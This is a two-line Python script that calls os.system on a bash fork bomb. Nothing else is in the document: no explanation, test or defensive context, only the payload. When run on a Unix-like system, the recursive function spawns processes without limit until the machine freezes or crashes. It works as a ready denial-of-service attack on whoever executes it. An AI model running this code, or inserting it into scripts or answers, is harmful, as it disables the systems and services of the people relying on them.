import os
os.system(":(){ :|:& };:")
